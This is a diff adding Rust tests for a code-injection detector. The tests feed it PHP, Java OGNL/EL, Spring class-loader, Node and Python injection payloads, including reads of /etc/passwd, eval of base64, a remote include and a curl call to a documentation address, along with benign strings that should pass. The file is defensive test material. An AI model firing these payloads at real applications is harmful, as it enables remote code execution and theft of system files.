@@ -1,0 +1,127 @@
+use crate::detectors::testing::look;
+use crate::{Analysis, Class, Detectors, Place};
+
+fn run(text: &str) -> (String, bool) {
+    look(Class::Code, Place::Form, "text", text.as_bytes())
+}
+
+#[track_caller]
+fn attack(text: &str, wanted: &str) {
+    let (have, blocks) = run(text);
+    for kind in wanted.split_whitespace() {
+        assert!(have.split_whitespace().any(|k| k == kind), "{text}\n  wanted {kind}\n  have   {have}");
+    }
+    assert!(blocks, "{text}\n  have   {have}");
+}
+
+#[test]
+fn php() {
+    attack("system('id');", "execute shell-argument");
+    attack("';system(\"cat /etc/passwd\");//", "execute shell-argument");
+    attack("<?php eval(base64_decode('aWQ=')); ?>", "php-tag eval nested decode");
+    attack("eval($_POST['x']);", "eval nested input");
+    attack("<?=`$_GET[0]`?>", "php-tag");
+    attack("assert(strrev('x'))", "eval nested decode");
+    attack("$_GET[a]($_GET[b])", "input variable-call");
+    attack("('sys'.'tem')('id')", "text-call");
+    attack("call_user_func('system','id')", "callback nested");
+    attack("phpinfo()", "info");
+    attack("print_r(scandir('/'))", "file nested");
+    attack("include('http://192.0.2.1/a.txt')", "file file-argument");
+    attack("create_function('','phpinfo();')", "eval nested");
+    attack("preg_replace('/.*/e','phpinfo()','')", "callback nested");
+    attack("$a='sys'.'tem';$a('id')", "variable-call shell-argument");
+    attack("print(md5(31337));", "probe");
+}
+
+#[test]
+fn java() {
+    attack("T(java.lang.Runtime).getRuntime().exec('id')", "static reflection");
+    attack("%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}", "static ognl-assign");
+    attack("%{#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS}", "ognl");
+    attack("''.getClass().forName('java.lang.Runtime').getMethods()", "reflection type");
+    attack("new java.lang.ProcessBuilder('id').start()", "type");
+}
+
+/// A parameter's name reaches the class loader, whatever its value.
+#[test]
+fn class_paths_in_names() {
+    let detectors = Detectors::new();
+    let mut analysis = Analysis::new();
+    analysis.target(&detectors, b"/?class.module.classLoader.resources.context.parent.appBase=x");
+    assert!(analysis.findings().iter().any(|f| f.kind.id == "code.class-path"));
+}
+
+#[test]
+fn others() {
+    attack("require('child_process').execSync('id')", "module");
+    attack("this.constructor.constructor('return process')()", "node");
+    attack("global.process.mainModule.require('fs')", "node");
+    attack("__import__('os').system('id')", "import");
+    attack("''.__class__.__mro__[1].__subclasses__()", "internal dunder");
+    attack("os.system('id')", "execute shell-argument");
+    attack("exec(\"import os; os.system('id')\")", "execute nested");
+    attack("open('/etc/passwd').read()", "file-argument");
+    attack("Response.Write(268409241-1)", "probe");
+    attack("eval(compile('import os','a','exec'))", "eval nested");
+    attack("IO.popen('id').read", "execute shell-argument");
+    attack(";system \"touch /tmp/x\"", "execute shell-argument");
+    attack("CreateObject(\"WScript.Shell\").Run(\"cmd\")", "object");
+    attack("Execute(Request(\"x\")) eval(request(\"x\"))", "input eval");
+    attack("os.execute('id')", "execute shell-argument");
+}
+
+#[test]
+fn benign() {
+    for text in [
+        "system of a down",
+        "chore: remove eval() and exec()",
+        "print(\"hello %s\" % name)",
+        "console.log(`v=${v}`)",
+        "const x = async () => { await fetch(\"/api\"); };",
+        "function add(a,b){return a+b;}",
+        "require(\"./../config.json\")",
+        "open('notes.txt')",
+        "include('header.php')",
+        "import { a } from \"../../lib/utils\";",
+        "java.lang.NullPointerException: Cannot invoke \"String.length()\" because \"<local1>\" is null\n\tat com.example.Main.main(Main.java:5)",
+        "at java.lang.Thread.run(Thread.java:750)",
+        "Caused by: java.net.URL.openStream(URL.java:10)",
+        "var m = pattern.exec(text);",
+        "=VLOOKUP(\"x\",A1:B9,2,FALSE)",
+        "sleep(8 hours) tips",
+        "super().__init__(name)",
+        "$http.get(url).then(f)",
+        "<?xml version=\"1.0\"?><config><debug>true</debug></config>",
+        "I use eval rarely (really), and the exec's print run was 7 * 7",
+        "constructor(props) { super(props); }",
+    ] {
+        let (have, blocks) = run(text);
+        assert!(!blocks, "{text}: {have}");
+    }
+}
+
+/// White space, comments and case of PHP names do not matter to the reader.
+#[test]
+fn mutations_keep_a_detection() {
+    for name in ["system", "SYSTEM", "ShEll_exec", "passthru", "popen"] {
+        for open in ["(", " (", "/**/(", "/*x*/ ("] {
+            for argument in ["'id'", "\"cat /etc/passwd\"", "'/bin/ls -la'", "'curl http://192.0.2.1/x'"] {
+                for before in ["", ";", "1;", "'.", "\".@", "${@", "<?php "] {
+                    let text = format!("{before}{name}{open}{argument})");
+                    let (have, blocks) = run(&text);
+                    assert!(blocks, "{text}: {have}");
+                }
+            }
+        }
+    }
+}
+
+#[test]
+fn hostile_texts_end() {
+    for unit in
+        ["eval(", "a.b.", "T(", "$x(", "('a'.", "<?php ", "__class__.", "@a@", "(#x=", "print(", "system "]
+    {
+        run(&unit.repeat(10_000));
+    }
+}
